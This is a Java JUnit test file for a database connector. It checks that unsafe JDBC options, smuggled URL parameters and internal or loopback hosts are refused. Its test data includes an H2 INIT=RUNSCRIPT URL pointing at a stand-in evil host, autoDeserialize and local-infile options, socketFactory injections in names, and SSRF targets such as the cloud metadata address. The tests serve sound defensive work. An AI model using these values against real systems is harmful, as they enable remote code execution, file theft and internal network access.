package ai.ipai.connectors.database;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import ai.ipai.spi.connector.ConnectorErrors;
import ai.ipai.spi.connector.Finding;
import ai.ipai.spi.connector.Settings;
import ai.ipai.spi.error.IpaiException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.util.HashMap;
import java.util.Map;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Promise 21, for databases. */
@Tag("REQ-CON-081")
class JdbcOptionsTest {
  private static Map<String, @Nullable Object> connection(String kind) {
    Map<String, @Nullable Object> connection = new HashMap<>();
    connection.put("kind", kind);
    connection.put("host", "db.example.com");
    connection.put("database", "shop");
    connection.put("login", "reader");
    connection.put("secret", "secret://shop/password");
    return connection;
  }

  private static void refused(Map<String, @Nullable Object> connection) {
    assertThatThrownBy(() -> new Source(connection, "x", Map.of()))
        .isInstanceOfSatisfying(
            IpaiException.class,
            e -> {
              assertThat(e.code()).isEqualTo(ConnectorErrors.SETTING);
              assertThat(e.hint()).isNotBlank();
            });
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "socketFactory",
        "socketFactoryArg",
        "sslfactory",
        "loggerFile",
        "authenticationPluginClassName",
        "localSocketAddress",
        "passfile",
        "options",
        "allowLocalInfile",
        "autoDeserialize",
        "allowUrlInLocalInfile",
        "init",
        "sslmode ",
        "SSLMODE"
      })
  void optionsThatAreNotHarmlessAreRefused(String option) {
    for (String kind : new String[] {"postgresql", "mariadb", "mysql"}) {
      Map<String, @Nullable Object> connection = connection(kind);
      connection.put("options", Map.of(option, "evil"));
      refused(connection);
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "shop?socketFactory=evil",
        "shop&allowLocalInfile=true",
        "shop;INIT=x",
        "a/b",
        "shop%3FsocketFactory=evil",
        "shop\\x",
        "shop\n"
      })
  void optionsInANameAreRefused(String database) {
    Map<String, @Nullable Object> connection = connection("postgresql");
    connection.put("database", database);
    refused(connection);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"evil.example,db.example.com", "db/other?x=1", "a@b", "db:1", "(address=x)", ""})
  void hostsThatAreMoreThanAHostAreRefused(String host) {
    for (String kind : new String[] {"postgresql", "mariadb"}) {
      Map<String, @Nullable Object> connection = connection(kind);
      connection.put("host", host);
      refused(connection);
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
        "jdbc:mysql://db/shop?autoDeserialize=true",
        "jdbc:postgresql://db/shop",
        "jdbc:hsqldb:file:x;shutdown=true",
        "http://db/shop",
        "jdbc:db2://db:1/shop:traceFile=/x;"
      })
  void addressesWithOptionsAreRefused(String url) {
    refused(new HashMap<>(Map.of("kind", "jdbc", "url", url)));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:oracle:thin:example.com/x@//10.0.0.5:1521/XE",
        "jdbc:oracle:thin:scott/tiger@example.com:1521:XE",
        "jdbc:oracle:thin:@example.com@10.0.0.5:1521:XE",
        "jdbc:sqlserver://example.com/@10.0.0.5:1433",
        "jdbc:other://user:secret@example.com/shop"
      })
  void loginsAndSecondHostsInAnAddressAreRefused(String url) {
    refused(new HashMap<>(Map.of("kind", "jdbc", "url", url, "private_addresses", true)));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(HOST=10.0.0.5)(PORT=1)))",
        "jdbc:oracle:thin:@example.com,10.0.0.5:1521/XE",
        "jdbc:other:example.com://10.0.0.5/",
        "jdbc:other://example.com//10.0.0.5/",
        "jdbc:other://10.0.0.5/",
        "jdbc:oracle:thin:@10.0.0.5:1521:XE",
        "jdbc:other:proto://[::1]:99/x"
      })
  void anAddressWhoseHostIsNotOnePublicOneIsNotConnectedTo(String url) {
    try (Source source =
        new Source(new HashMap<>(Map.of("kind", "jdbc", "url", url)), "", Map.of())) {
      assertThat(source.connector.check())
          .singleElement()
          .extracting(Finding::message)
          .asString()
          .contains("CON-012");
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:oracle:thin:@//db.example.com:1521/XE",
        "jdbc:oracle:thin:@db.example.com:1521:XE",
        "jdbc:sqlserver://db.example.com:1433",
        "jdbc:hsqldb:hsql://db.example.com/shop",
        "jdbc:h2:tcp://db.example.com/~/shop"
      })
  void usualAddressesAreUnderstood(String url) {
    JdbcUrl understood =
        JdbcUrl.of(DatabaseSettings.Kind.JDBC, Settings.of("connection", Map.of("url", url)));
    assertThat(understood.host()).isEqualTo("db.example.com");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "127.0.0.1",
        "localhost",
        "127.1",
        "2130706433",
        "0x7f000001",
        "0177.0.0.1",
        "0.0.0.0",
        "10.1.2.3",
        "169.254.169.254",
        "[::1]",
        "[::ffff:127.0.0.1]",
        "[fd00::1]"
      })
  void noConnectionReachesThisMachineUnlessAllowed(String host) throws Exception {
    try (ServerSocket listener = new ServerSocket(0, 8, InetAddress.getLoopbackAddress())) {
      listener.setSoTimeout(50);
      for (String kind : new String[] {"postgresql", "mariadb"}) {
        Map<String, @Nullable Object> connection = connection(kind);
        connection.put("host", host);
        connection.put("port", listener.getLocalPort());
        try (Source source = new Source(connection, "x", Map.of())) {
          assertThat(source.connector.check())
              .singleElement()
              .extracting(Finding::severity)
              .isEqualTo(Finding.Severity.ERROR);
        }
      }
      assertThatThrownBy(listener::accept).isInstanceOf(java.net.SocketTimeoutException.class);
    }
  }

  @Test
  void theAddressThatIsConnectedToIsWhatCounts() throws Exception {
    // As after a name that answered with a public address when it was checked.
    try (ServerSocket listener = new ServerSocket(0, 8, InetAddress.getLoopbackAddress())) {
      assertThatThrownBy(
              () ->
                  new GuardedSocketFactory()
                      .createSocket(listener.getInetAddress(), listener.getLocalPort()))
          .hasMessageContaining("may not go");
    }
  }

  @Test
  void aFileIsThisMachine() {
    try (Source source =
        new Source(
            new HashMap<>(Map.of("kind", "jdbc", "url", "jdbc:hsqldb:res:foodmart")),
            "",
            Map.of())) {
      assertThat(source.connector.check())
          .singleElement()
          .extracting(Finding::message)
          .asString()
          .contains("CON-012");
    }
  }
}
